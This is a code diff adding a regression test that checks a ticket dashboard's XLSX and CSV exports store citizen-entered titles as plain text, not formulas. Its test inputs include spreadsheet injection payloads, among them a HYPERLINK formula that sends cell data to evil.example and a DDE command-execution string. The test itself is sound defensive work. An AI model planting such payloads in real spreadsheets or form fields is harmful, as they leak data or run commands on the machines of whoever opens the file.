@@ -101,6 +101,30 @@ def test_ticket_export_masks_phones(client, data):
     assert db.session.execute(select(ExportRecord).filter_by(kind="tickets")).scalars().all()
 
 
+@pytest.mark.parametrize("title", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0",
+                                   "+1+2", "-2+3", "@SUM(A1:A2)"])
+def test_exports_never_write_a_citizen_text_as_a_formula(client, data, title):
+    """Issue 28.3: XLSX holds every text as a string cell; CSV puts an apostrophe before a formula character."""
+    data.red.title = title
+    db.session.commit()
+    login(client, "supervisor")
+    response = client.get("/dashboard/export/tickets.xlsx?board=overdue")
+    assert b"<f>" not in _sheet_xml(response.data)
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [row[6] for row in sheet.iter_rows(min_row=2) if row[0].value == data.red.tracking_no]
+    assert [(c.value, c.data_type) for c in cells] == [(title, "s")]
+    response = client.get("/dashboard/export/tickets.csv?board=overdue")
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert [r[6] for r in rows if r[0] == data.red.tracking_no] == ["'" + title]
+
+
+def _sheet_xml(xlsx: bytes) -> bytes:
+    import zipfile
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml")
+
+
 def test_stats_api(client, data):
     login(client, "supervisor")
     overview = client.get("/api/v1/stats/overview").get_json()
